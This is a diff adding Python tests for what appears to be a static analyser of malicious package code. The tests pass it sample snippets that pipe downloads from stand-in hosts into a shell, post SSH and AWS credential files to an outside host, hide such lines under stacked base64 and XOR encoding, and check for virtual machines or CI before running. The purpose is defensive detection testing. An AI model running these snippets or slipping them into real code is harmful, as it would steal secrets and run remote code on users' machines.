@@ -1,0 +1,87 @@
+"""What following code costs: large honest functions are followed to their end, and what needs many turns still gets them."""
+
+from __future__ import annotations
+
+import base64
+
+from mlsupply.evidence.facets import CodeFact
+from mlsupply.evidence.python import analyse
+
+
+def followed(text: str) -> analyse.ModuleFacts:
+    return analyse.module("demo/__init__.py", text.encode())
+
+
+def deeds(text: str) -> list[CodeFact]:
+    return [fact for fact, _ in followed(text).facts]
+
+
+def test_a_list_that_grows_by_a_branch_each_is_not_gone_through_for_each_of_its_items() -> None:
+    branches = "".join(
+        f"    elif name == 'n{place}':\n"
+        "        for kept in _kept:\n"
+        f"            if isinstance(kept, lib.Logger{place}):\n                return kept\n"
+        f"        made = lib.Logger{place}(os.environ['KEY_{place}'])\n        _kept.append(made)\n        return made\n"
+        for place in range(120)
+    )
+    found = followed(
+        f"import os\nimport lib\n_kept = []\ndef get(name):\n    if name == '':\n        return None\n{branches}"
+    )
+    assert found.stopped == ""
+
+
+def test_each_of_a_few_functions_in_a_list_is_still_called() -> None:
+    found = deeds(
+        "import os, subprocess\nfor run in (os.system, subprocess.call):\n    run('curl https://a.example/x | sh')"
+    )
+    assert {fact.sink for fact in found if fact.behaviour == "runs-downloaded"} == {"os.system", "subprocess.call"}
+
+
+def test_each_path_of_a_list_is_still_read() -> None:
+    found = deeds(
+        "import requests, os\nfor path in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/notes']:\n"
+        "    requests.post('https://c.example', data=open(os.path.expanduser(path)).read())"
+    )
+    (sent,) = [fact for fact in found if fact.behaviour == "sends"]
+    assert sent.source == "credential-file"
+
+
+def test_a_loop_that_only_tries_again_costs_two_turns() -> None:
+    body = "        time.sleep(1)\n" + "        log(client.get(url, headers=headers).json())\n" * 20
+    text = f"import time\nfrom .web import client, log\ndef poll(url, headers):\n    for attempt in range(4000):\n{body}"
+    assert followed(text + "    import subprocess\n").stopped == ""
+
+
+def test_a_loop_that_takes_off_a_layer_a_turn_takes_off_all_of_them() -> None:
+    code = b"import os; os.system('curl https://l.example/x | sh')"
+    for _ in range(7):
+        code = base64.b64encode(code)
+    found = deeds(f"import base64\nblob = {code!r}\nfor _ in range(7):\n    blob = base64.b64decode(blob)\nexec(blob)")
+    assert {"runs-decoded", "runs-downloaded"} <= {fact.behaviour for fact in found}
+
+
+def test_a_loop_that_adds_letters_adds_all_of_them() -> None:
+    letters = [ord(letter) ^ 7 for letter in "import os; os.system('curl https://l.example/x | sh')"]
+    found = deeds(f"codes = {letters}\ntext = ''\nfor at in range(len(codes)):\n    text += chr(codes[at] ^ 7)\nexec(text)")
+    assert {"runs-decoded", "runs-downloaded"} <= {fact.behaviour for fact in found}
+
+
+def test_a_condition_that_looks_for_a_watcher_is_seen_in_texts_and_in_names() -> None:
+    for test in ("'VirtualBox' in text", "exists('/.dockerenv')", "vmware_found()", "os.environ.get('CI')"):
+        found = deeds(f"import os\nif {test}:\n    raise SystemExit\nos.system('id')")
+        assert "evades" in {fact.behaviour for fact in found}, test
+    assert "evades" not in {
+        fact.behaviour for fact in deeds("import os\nif any(run for run in runs):\n    raise SystemExit")
+    }
+
+
+def test_a_function_that_names_only_types_of_a_library_is_passed_over_and_one_that_asks_with_it_is_not() -> None:
+    head = (
+        "import httpx, os\nclass C:\n    def __init__(self, web):\n        self.web = web\n"
+        "    def ask(self, url):\n        try:\n"
+    )
+    end = "        except httpx.HTTPError:\n            pass\n"
+    asks = "            self.web.get('https://c.example/' + os.getenv('AWS_SECRET_ACCESS_KEY'))\n"
+    assert "sends" in {fact.behaviour for fact in deeds(head + asks + end)}
+    only_names = analyse.module("demo/a.py", (head + "            self.web.close(url)\n" + end).encode())
+    assert (only_names.facts, only_names.functions) == ((), ("C.__init__", "C.ask"))
